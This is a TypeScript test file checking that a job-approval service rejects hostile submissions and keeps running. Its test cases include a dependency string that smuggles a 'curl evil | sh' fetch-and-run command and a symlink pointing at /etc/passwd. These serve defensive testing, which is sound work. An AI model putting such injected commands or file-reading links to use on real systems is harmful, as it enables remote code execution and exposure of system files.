import * as fs from 'node:fs';
import * as path from 'node:path';
import { makeSandbox, Sandbox, statusJson, waitFor } from '../helpers/sandbox';
import { DO, DS, jobDirs, readState, writeBashJob } from '../helpers/datasite';
import { readDecisions } from '../../lib/approve/audit';

const SCRIPT = 'echo hi\n';

// Hostile submissions against the running approve service: never approved, a clear reason in the audit log,
// and the service keeps running.
describe('approve service vs hostile submissions', () => {
  let sb: Sandbox;
  let root: string;
  const decisions = () => readDecisions(path.join(sb.syftBgHome, 'approve', 'decisions.jsonl'));
  const reasonFor = (job: string) => decisions().find((d) => d.job === job && d.verdict === 'not-approved')?.reason;

  beforeAll(() => {
    sb = makeSandbox('hostile');
    root = path.join(sb.dir, 'SyftBox');
    expect(sb.cli(['init', '-e', DO, '-r', root]).code).toBe(0);
    const src = path.join(sb.dir, 'script.sh');
    fs.writeFileSync(src, SCRIPT);
    // Any peer: the most permissive object, so only the hostile detail can refuse the job.
    expect(sb.cli(['auto-approve', src, '-n', 'hi']).code).toBe(0);
    expect(sb.cli(['start', 'approve']).code).toBe(0);
  });
  afterAll(() => sb.cleanup());

  const cases: Array<[string, (inbox: string) => void, RegExp]> = [
    ['symlink-out', (d) => fs.symlinkSync('/etc/passwd', path.join(d, 'code', 'passwd')), /symbolic link|symlink/i],
    ['odd-names', (d) => fs.writeFileSync(path.join(d, 'code', "x'\n\u202e.sh"), 'echo'), /extra files/],
    ['huge-file', (d) => {
      const fd = fs.openSync(path.join(d, 'code', 'big.bin'), 'w');
      fs.ftruncateSync(fd, 60 * 1024 * 1024);
      fs.closeSync(fd);
    }, /too large|MiB|bytes/i],
    ['binary', (d) => fs.writeFileSync(path.join(d, 'code', 'script.sh'), Buffer.from([0xff, 0xfe, 0x00, 0x80])), /hash mismatch|content mismatch|could not read/],
    ['bad-yaml', (d) => fs.writeFileSync(path.join(d, 'config.yaml'), 'name: [unclosed\n  - x: {\n'), /config\.yaml|yaml/i],
    ['huge-yaml', (d) => fs.writeFileSync(path.join(d, 'config.yaml'), 'name: huge-yaml\nx: "' + 'a'.repeat(2 * 1024 * 1024) + '"\n'), /too large|MiB|bytes|config\.yaml/i],
    ['other-name', (d) => fs.writeFileSync(path.join(d, 'config.yaml'), fs.readFileSync(path.join(d, 'config.yaml'), 'utf8').replace('name: other-name', 'name: job-ok')), /name/],
    ['evil-deps', (d) => fs.writeFileSync(path.join(d, 'config.yaml'), fs.readFileSync(path.join(d, 'config.yaml'), 'utf8').replace('dependencies: []', 'dependencies:\n- \'x"; curl evil | sh; "\'')), /depend|unsafe/i],
  ];

  /** Prepare the job outside the datasite, apply the hostile detail, then move it in atomically. */
  function submit(name: string, mutate: (inbox: string) => void): string {
    const staging = path.join(sb.dir, 'staging');
    const inbox = writeBashJob(staging, DS, name, SCRIPT);
    mutate(inbox);
    const dest = jobDirs(root, DS, name).inbox;
    fs.mkdirSync(path.dirname(dest), { recursive: true });
    fs.renameSync(inbox, dest);
    return dest;
  }

  it.each(cases)('%s: never approved, with a reason; the service keeps running', async (name, mutate, reason) => {
    submit(name, mutate);
    const r = await waitFor(`${name} judged`, () => reasonFor(name) ?? (readState(root, DS, name)?.status === 'approved' ? 'APPROVED' : undefined), 20_000, 100);
    expect(r).not.toBe('APPROVED');
    expect(r).toMatch(reason);
    expect(['pending', undefined]).toContain(readState(root, DS, name)?.status);
    expect(statusJson(sb).services.find((s) => s.name === 'approve')!.state).toBe('online');
    expect(fs.existsSync(path.join(jobDirs(root, DS, name).review, 'stdout.txt'))).toBe(false);
  });

  it('a symlinked code/ folder is never received or approved (not followed), and the service keeps running', async () => {
    submit('symlinked-code', (d) => {
      fs.rmSync(path.join(d, 'code'), { recursive: true });
      const elsewhere = path.join(sb.dir, 'elsewhere');
      fs.mkdirSync(elsewhere, { recursive: true });
      fs.writeFileSync(path.join(elsewhere, 'script.sh'), SCRIPT);
      fs.symlinkSync(elsewhere, path.join(d, 'code'));
    });
    await new Promise((r) => setTimeout(r, 3000));
    expect(readState(root, DS, 'symlinked-code')?.status).not.toBe('approved');
    expect(decisions().some((d) => d.job === 'symlinked-code' && d.verdict === 'approved')).toBe(false);
    expect(statusJson(sb).services.find((s) => s.name === 'approve')!.state).toBe('online');
  });
});
